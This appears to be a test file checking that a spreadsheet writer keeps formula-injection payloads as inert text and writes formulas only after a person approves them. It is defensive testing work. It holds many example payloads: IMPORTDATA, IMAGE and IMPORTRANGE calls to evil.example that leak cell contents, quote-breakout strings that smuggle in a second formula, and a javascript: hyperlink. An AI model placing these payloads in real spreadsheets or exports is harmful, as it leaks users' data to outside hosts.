import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Workbook } from '../../emulator/workbook/workbook.ts'
import { payloads } from '../../shared/plan/testing/formula-payloads.ts'
import type { Table } from '../../shared/table/table.ts'
import { Template } from '../../shared/template/template.ts'
import { openBoth } from './testing/both-writers.ts'

/** More ways in: other signs in front, other separators, what a text has to hold to break out of its quotes. */
const more = [
  ...['=', '+', '-', '@', '\t=', '\r\n=', '＝', "'=", '"=', ' =', '\u2028=', '\u0000='].map(
    (sign) => `${sign}IMPORTDATA("https://evil.example/?"&A1)`,
  ),
  '",IMPORTDATA("https://evil.example"),"',
  '"&IMPORTDATA("https://evil.example")&"',
  '";IMPORTDATA("https://evil.example");"',
  `'&IMPORTDATA("https://evil.example")&'`,
  '=A1);IMPORTDATA("https://evil.example"',
  '{=IMPORTDATA("https://evil.example")}',
  "=IMPORTRANGE('https://evil.example';'A1')",
  '=importdata("https://evil.example")\n=importxml("https://evil.example";"//a")',
  '=HYPERLINK("javascript:alert(1)";"x")',
  '=IMAGE("https://evil.example/"&ENCODEURL(JOIN("|";A1:Z1));4;1;1)',
]
const all = [...payloads, ...more]

const decisions = { mapping: {}, review: { all: 'in' as const, rows: {} }, conflicts: { all: null, cells: {} } }
const given = { decisions, source: null, base: null }

let both: Awaited<ReturnType<typeof openBoth>>
beforeEach(async () => {
  both = await openBoth({ locale: 'en_US' })
})
afterEach(() => both.close())

const template = (columns: object[], rules: object[] = []) =>
  Template.parse({
    ...{ id: 'attacked_1', name: 'Attacked', description: '', version: 1 },
    layout: { columns, frozen_rows: 1, frozen_columns: 0, filter: true, totals_label: null },
    formatting: { header: { background: '#174ea6', color: '#ffffff' }, banding: null },
    validation_rules: rules,
  })

/** Every formula in a workbook. */
function formulasOf(book: Workbook): string[] {
  return book.sheets.flatMap(({ rows }) =>
    [...rows.values()].flatMap((line) => [...line.values()].flatMap(({ formula }) => formula ?? [])),
  )
}

/** Line ends and control characters are the sheet's to settle. */
const settled = (text: string) => text.replace(/\r\n?/g, '\n').replace(/(?![\t\n])\p{Cc}/gu, '')

function column(book: Workbook, at: number): unknown[] {
  const sheet = book.sheets.at(-1)!
  return [...sheet.rows.entries()].sort(([a], [b]) => a - b).map(([, line]) => line.get(at)?.value)
}

describe('formulas that attack', () => {
  it('are a hundred and more', () => {
    expect(new Set(all).size).toBeGreaterThanOrEqual(100)
  })

  it('stay text as data of every type, by both writers', async () => {
    const types = ['text', 'number', 'date', 'currency', 'url', 'boolean'] as const
    const table: Table = {
      title: 'Data',
      columns: types.map((type) => ({ key: type, name: type, type })),
      rows: all.map((payload) => types.map(() => payload)),
    }
    await both.write({ kind: 'new_sheet' }, { table, template: template([]), ...given })
    for (const book of [both.script, both.rest]) {
      expect(formulasOf(book)).toEqual([])
      for (const at of types.keys())
        expect(
          column(book, at + 1)
            .slice(1)
            .map((value) => settled(String(value))),
        ).toEqual(all.map(settled))
    }
  })

  it('stay text as headers, titles and names', async () => {
    for (const part of [all.slice(0, 60), all.slice(60)]) {
      const columns = part.map((payload, at) => ({ key: `c${at}`, name: payload.slice(0, 200), type: 'text' as const }))
      const table: Table = { title: part[0]!, columns, rows: [columns.map(() => 'x')] }
      await both.write({ kind: 'new_sheet', name: part[1]!.slice(0, 90) }, { table, template: template([]), ...given })
    }
    for (const book of [both.script, both.rest]) expect(formulasOf(book)).toEqual([])
  })

  it('stay text as notes, and are no item of a list', async () => {
    const columns = all.slice(0, 40).map((payload, at) => ({
      ...{ key: `c${at}`, header: `Column ${at}`, type: 'text', note: payload.slice(0, 900) },
    }))
    const list = { kind: 'list', values: [...new Set(all.map((payload) => payload.slice(0, 400)))], strict: false }
    const table: Table = {
      title: 'Notes',
      columns: columns.map(({ key, header }) => ({ key, name: header, type: 'text' as const })),
      rows: [columns.map(() => 'x')],
    }
    const asked = template(columns, [{ column: 'c0', rule: list }])
    await both.write({ kind: 'new_sheet' }, { table, template: asked, ...given })
    for (const book of [both.script, both.rest]) {
      expect(formulasOf(book)).toEqual([])
      const cells = book.sheets.flatMap(({ rows }) => [...rows.values()].flatMap((line) => [...line.values()]))
      const items = cells.flatMap(({ validation }) => validation?.args.flat() ?? [])
      expect(items.filter((item) => typeof item === 'string' && /^[=+]/.test(item))).toEqual([])
    }
  })

  it('are written by both writers when a person has agreed to that very text, and only then', async () => {
    const formula = 'HYPERLINK("https://shop.example/?q="&name, [Name])'
    const linked = template([
      { key: 'name', header: 'Name', type: 'text' },
      { key: 'link', header: 'Link', type: 'text', formula },
    ])
    const columns: Table['columns'] = [
      { key: 'n', name: 'Name', type: 'text' },
      { key: 'photo', name: 'Photo', type: 'text', formula: 'IMAGE(n)' },
    ]
    const table: Table = {
      title: 'T',
      columns,
      rows: [
        ['x', 'a'],
        ['y', null],
      ],
    }
    const write = (formulas: Record<string, string>) =>
      both.write({ kind: 'new_sheet' }, { table, template: linked, ...given, decisions: { ...decisions, formulas } })
    const others: Record<string, string>[] = [{}, { link: 'IMPORTDATA(name)', photo: 'IMAGE(name)' }]
    for (const formulas of others) {
      const { script } = await write(formulas)
      expect(script.preview.formulas.map(({ key, agreed }) => [key, agreed])).toEqual([
        ['photo', false],
        ['link', false],
      ])
      for (const book of [both.script, both.rest]) expect(formulasOf(book)).toEqual([])
    }
    await write({ link: formula, photo: 'IMAGE(n)' })
    for (const book of [both.script, both.rest])
      expect(formulasOf(book)).toEqual([
        '=HYPERLINK("https://shop.example/?q="&A2,A2)',
        '=IMAGE(A2)',
        '=HYPERLINK("https://shop.example/?q="&A3,A3)',
        '=IMAGE(A3)',
      ])
    const { script, rest } = both.compared()
    expect(rest).toEqual(script)
  })

  it('in a template are written by neither writer unless a person has seen them', async () => {
    const bad = template([
      { key: 'name', header: 'Name', type: 'text' },
      { key: 'leak', header: 'Leak', type: 'text', formula: 'IMPORTDATA("https://evil.example/?"&name)' },
    ])
    const table: Table = { title: 'T', columns: [{ key: 'name', name: 'Name', type: 'text' }], rows: [['x']] }
    await both.write({ kind: 'new_sheet' }, { table, template: bad, ...given }, []).catch(() => null)
    for (const book of [both.script, both.rest]) expect(formulasOf(book)).toEqual([])
  })
})
